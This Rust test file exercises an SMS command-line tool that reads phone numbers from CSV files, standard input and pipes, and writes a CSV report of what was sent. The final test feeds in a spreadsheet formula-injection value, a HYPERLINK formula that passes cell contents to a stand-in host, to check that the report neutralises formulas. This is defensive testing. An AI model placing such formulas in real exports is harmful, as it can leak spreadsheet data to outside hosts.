//! Numbers from files and from standard input, and the report.

use std::collections::BTreeMap;
use std::fmt::Write;
use std::time::Duration;

use kwtsms_async::sandbox::Fault;

use super::{World, run};

/// A row of the report: input, number, outcome, message id, code, reason.
type Row = [String; 6];

/// The report's rows by line.
pub(crate) fn report(world: &World, name: &str) -> BTreeMap<u64, Vec<Row>> {
    let mut rows: BTreeMap<u64, Vec<Row>> = BTreeMap::new();
    let mut reader = csv::Reader::from_path(world.path(name)).unwrap();
    assert_eq!(
        reader.headers().unwrap(),
        vec!["line", "input", "number", "outcome", "message_id", "code", "reason"]
    );
    for record in reader.records() {
        let record = record.unwrap();
        let cells: Vec<String> = record.iter().skip(1).map(str::to_owned).collect();
        rows.entry(record[0].parse().unwrap()).or_default().push(cells.try_into().unwrap());
    }
    rows
}

/// How many rows of a report have an outcome.
pub(crate) fn count(rows: &BTreeMap<u64, Vec<Row>>, outcome: &str) -> usize {
    rows.values().flatten().filter(|row| row[2] == outcome).count()
}

#[test]
fn every_row_of_a_thousand_is_accounted_for() {
    let world = World::new();
    let arabic = |number: u64| -> String {
        number.to_string().chars().map(|c| char::from_u32(0x660 + c.to_digit(10).unwrap()).unwrap()).collect()
    };
    let mut csv = String::from("\u{feff}Name,\"Mobile number\",City\r\n");
    let mut expected = BTreeMap::new();
    let mut sent = Vec::new();
    let mut line = 2;
    for i in 0..1_000u64 {
        let number = 96_551_000_000 + i;
        let (cell, outcome) = match i % 20 {
            3 => (format!("\"+965 {}\"", number % 100_000_000), "accepted"),
            5 => (arabic(number), "accepted"),
            7 => (format!("00{number}"), "accepted"),
            11 => ((number - 1).to_string(), "duplicate"),
            13 => ("not a number".to_owned(), "invalid"),
            15 => (String::new(), "invalid"),
            17 => ("9.65E+10".to_owned(), "invalid"),
            19 => ("user@example.com".to_owned(), "invalid"),
            _ => (number.to_string(), "accepted"),
        };
        if outcome == "accepted" {
            sent.push(number.to_string());
        }
        expected.insert(line, outcome);
        // A quoted name with a comma, a quote and a line break in it; a blank line now and then.
        let name = if i % 10 == 0 { "\"Ali \"\"A\"\",\r\nthe first\"" } else { "Sara" };
        write!(csv, "{name},{cell},Kuwait\r\n").unwrap();
        line += if i % 10 == 0 { 2 } else { 1 };
        if i % 100 == 0 {
            csv.push_str("\r\n");
            line += 1;
        }
    }
    world.write("c.csv", csv);
    let ran =
        world.run(&["send", "--file", "c.csv", "hi", "--report", "r.csv", "--yes", "--rate", "4"]).exits(3);

    let rows = report(&world, "r.csv");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(world.folder.path().join("r.csv")).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "it holds numbers");
    }
    assert_eq!(rows.keys().collect::<Vec<_>>(), expected.keys().collect::<Vec<_>>());
    let messages = world.sandbox.messages();
    for (line, outcome) in &expected {
        let [row] = rows[line].as_slice() else { panic!("line {line}: {:?}", rows[line]) };
        assert_eq!(row[2], *outcome, "line {line}: {row:?}");
        match *outcome {
            "accepted" => {
                let message = messages.iter().find(|message| message.id() == row[3]).unwrap();
                assert!(message.numbers().contains(&row[1]), "line {line}: {row:?}");
            }
            _ => assert!(row[3].is_empty() && !row[5].is_empty(), "line {line}: {row:?}"),
        }
    }
    let mut arrived: Vec<String> = messages.iter().flat_map(|message| message.numbers().to_vec()).collect();
    arrived.sort();
    assert_eq!(arrived, sent);
    assert_eq!(world.sends(), 4);
    assert!(ran.out.contains("Accepted 750 of 1000"), "{}", ran.out);
    assert!(ran.out.contains("skipped 200  |  duplicates 50"), "{}", ran.out);
    assert!(ran.out.contains("… and 180 more skipped; the report lists them"), "{}", ran.out);
    assert!(ran.out.contains("Cost: 750  |  balance-after: 250"), "{}", ran.out);
    assert!(ran.err.contains("Numbers from the column \"Mobile number\""), "{}", ran.err);
}

#[test]
fn a_refused_number_is_told_with_its_line() {
    let world = World::new();
    world.write("n.txt", "96598765432\n\nabc\n96551234567\n");
    let ran = world.run(&["send", "-f", "n.txt", "hi"]).exits(3);
    assert!(ran.out.contains("Skipped: line 3: abc — no digits"), "{}", ran.out);
    let ran = world.run(&["send", "-f", "n.txt", "hi", "--dry-run"]).exits(3);
    assert!(ran.out.contains("line 3: refused: abc"), "{}", ran.out);
    assert!(ran.out.contains("Would send to 2 numbers in 1 batch"), "{}", ran.out);
}

#[test]
fn standard_input_gives_numbers_too() {
    let world = World::new();
    let many = |count: u64| (0..count).map(|i| format!("{}\n", 96_551_000_000 + i)).collect::<String>();
    let ran = run(world.kwtsms(&["send", "-", "hi"]).write_stdin(many(101))).exits(2);
    assert!(ran.err.contains("a live message to over 100 numbers needs --yes"), "{}", ran.err);
    assert_eq!(world.sandbox.requests().len(), 0);
    run(world.kwtsms(&["send", "-", "hi"]).write_stdin(many(100))).exits(0);
    assert_eq!(world.sandbox.messages()[0].numbers().len(), 100);
    run(world.kwtsms(&["send", "-", "hi", "--test", "--report", "r.csv"]).write_stdin(many(250))).exits(0);
    assert_eq!(count(&report(&world, "r.csv"), "accepted"), 250);
    let list = "phone,name\n96598765432,a\n96551234567,b\n";
    run(world.kwtsms(&["send", "--file", "-", "hi", "--test", "--column", "phone"]).write_stdin(list))
        .exits(0);
    assert_eq!(world.sandbox.messages().last().unwrap().numbers(), ["96598765432", "96551234567"]);
    assert_eq!(world.sends(), 4);
}

#[cfg(unix)]
#[test]
fn a_pipe_in_a_files_place_is_read_once() {
    let world = World::new();
    let made = std::process::Command::new("mkfifo").arg(world.path("pipe")).status().unwrap();
    assert!(made.success());
    let pipe = world.path("pipe");
    let writer = std::thread::spawn(move || std::fs::write(pipe, "96598765432\nabc\n96551234567\n").unwrap());
    let ran = world.run(&["send", "-f", "pipe", "hi"]).exits(3);
    writer.join().unwrap();
    assert!(ran.out.contains("Skipped: line 2: abc"), "{}", ran.out);
    assert_eq!(world.sandbox.messages()[0].numbers(), ["96598765432", "96551234567"]);
}

#[test]
fn json_of_a_file_is_a_line_a_batch_and_a_line_of_totals() {
    let world = World::new();
    let list: String = (0..250).map(|i| format!("{}\n", 96_551_000_000u64 + i)).collect();
    world.write("n.txt", list + "abc\n");
    let ran = world.run(&["--json", "send", "-f", "n.txt", "hi", "--yes"]).exits(3);
    let lines = ran.json_lines();
    assert_eq!(lines.len(), 3, "{}", ran.out);
    assert_eq!(lines[0]["numbers"].as_array().unwrap().len(), 200);
    assert_eq!(lines[1]["numbers"].as_array().unwrap().len(), 50);
    assert_eq!(lines[1]["invalid"][0]["line"], 251);
    assert_eq!(lines[2]["account"]["accepted"], 250);
    assert_eq!(lines[2]["result"], "PARTIAL");
    assert_eq!(lines[2]["balance_after"], 750);
}

#[test]
fn a_run_that_the_account_stops_says_what_was_not_attempted_and_from_where() {
    let world = World::new();
    world.sandbox.account("user").set_balance(200);
    let list: String = (0..600).map(|i| format!("{}\n", 96_551_000_000u64 + i)).collect();
    world.write("n.txt", list);
    let ran = world.run(&["send", "-f", "n.txt", "hi", "--yes", "--report", "r.csv"]).exits(3);
    let rows = report(&world, "r.csv");
    assert_eq!(
        (count(&rows, "accepted"), count(&rows, "refused"), count(&rows, "not_attempted")),
        (200, 200, 200)
    );
    assert_eq!(rows[&201][0][4], "ERR010");
    assert!(ran.out.contains("Failed: ERR010"), "{}", ran.out);
    assert!(ran.err.contains("200 numbers not attempted, from line 401 on"), "{}", ran.err);
}

#[test]
fn an_unknown_batch_in_the_middle_is_told_with_its_lines_and_the_run_goes_on() {
    let world = World::new();
    let list: String = (0..600).map(|i| format!("{}\n", 96_551_000_000u64 + i)).collect();
    world.write("n.txt", list);
    world.sandbox.faults().push(Fault::delay(Duration::ZERO).on("send"));
    world.sandbox.faults().push(Fault::drop_after_accepting().on("send"));
    let ran = world.run(&["send", "-f", "n.txt", "hi", "--yes", "--report", "r.csv"]).exits(4);
    assert!(ran.out.contains("OUTCOME UNKNOWN — 200 numbers may have been sent and charged"), "{}", ran.out);
    assert!(ran.out.contains("They stand in the lines 201 to 400."), "{}", ran.out);
    assert!(ran.out.contains("Accepted 400 of 600  |  unknown 200\n"), "{}", ran.out);
    let rows = report(&world, "r.csv");
    assert_eq!((count(&rows, "accepted"), count(&rows, "unknown")), (400, 200));
    assert!((201..=400).all(|line| rows[&line][0][2] == "unknown"));
    assert_eq!(world.sends(), 3, "and nothing is sent again");
}

#[test]
fn files_that_cannot_be_used_cost_nothing() {
    let world = World::new();
    world.write("two.csv", "name,phone,mobile\na,96598765432,96551234567\n");
    world.write("binary.csv", b"\x009\x006\0\0\n\0");
    world.write("quote.csv", "name,phone\n\"Ali,96598765432\nx,96551234567\n");
    world.write("empty.csv", "");
    world.write("there.csv", "of an earlier run");
    world.write("good.csv", "96598765432\n");
    std::fs::create_dir(world.path("folder")).unwrap();
    for (args, says) in [
        (&["send", "-f", "nowhere.csv", "hi"][..], "nowhere.csv cannot be read: No such file"),
        (&["send", "-f", "folder", "hi"], "folder cannot be read"),
        (&["send", "-f", "two.csv", "hi"], "choose one with --column: 1 (name), 2 (phone), 3 (mobile)"),
        (&["send", "-f", "two.csv", "--column", "tel", "hi"], "has no column \"tel\""),
        (&["send", "-f", "binary.csv", "hi"], "save as CSV UTF-8"),
        (&["send", "-f", "quote.csv", "hi"], "line 2: a quote is not closed"),
        (&["send", "-f", "empty.csv", "hi"], "is empty"),
        (&["send", "-f", "good.csv", "hi", "--report", "there.csv"], "choose another name for the report"),
        (&["send", "-f", "good.csv", "hi", "--report", "folder/no/r.csv"], "cannot be made"),
        (&["send", "96598765432", "-m", "nowhere.txt"], "nowhere.txt cannot be read"),
        (&["send", "96598765432", "-m", "folder"], "folder cannot be read"),
        (&["validate", "-f", "folder"], "folder cannot be read"),
    ] {
        let ran = world.run(args).exits(2);
        assert!(ran.err.contains(says), "{args:?}: {}", ran.err);
    }
    assert_eq!(world.sandbox.requests().len(), 0);
    assert_eq!(std::fs::read_to_string(world.path("there.csv")).unwrap(), "of an earlier run");
}

#[cfg(unix)]
#[test]
fn a_file_without_permission_is_an_error() {
    use std::os::unix::fs::PermissionsExt;

    let world = World::new();
    let file = world.write("secret.csv", "96598765432\n");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o000)).unwrap();
    if std::fs::read(&file).is_ok() {
        return; // whoever runs this may read everything
    }
    let ran = world.run(&["send", "-f", "secret.csv", "hi"]).exits(2);
    assert!(ran.err.contains("secret.csv cannot be read: Permission denied"), "{}", ran.err);
}

#[test]
fn a_cell_with_a_line_break_is_refused_whole() {
    let world = World::new();
    world.write("c.csv", "mobile\n\"965 5111\n0793\"\n96598765432\n");
    world.run(&["send", "--file", "c.csv", "hi", "--report", "r.csv"]).exits(3);
    let rows = report(&world, "r.csv");
    assert!(rows[&2][0].join(" ").contains("a line break stands in the cell"), "{rows:?}");
    assert_eq!(world.sandbox.messages()[0].numbers(), ["96598765432"]);
}

#[test]
fn no_cell_of_a_report_is_computed_by_a_spreadsheet() {
    let world = World::new();
    world.write(
        "c.csv",
        "phone,name\n=HYPERLINK(\"http://x/\"&A1),a\n+965-9876-5432,b\n+96551234567,c\n\"@SUM(1,2)\",d\n",
    );
    world.run(&["send", "-f", "c.csv", "hi", "--report", "r.csv"]).exits(3);
    let cells: Vec<_> = report(&world, "r.csv").into_values().flatten().flatten().collect();
    assert!(
        cells.contains(&"'+965-9876-5432".to_owned()) && cells.contains(&"+96551234567".to_owned()),
        "{cells:?}"
    );
    for cell in cells {
        assert!(!cell.starts_with(['=', '-', '@']), "{cell}");
    }
}
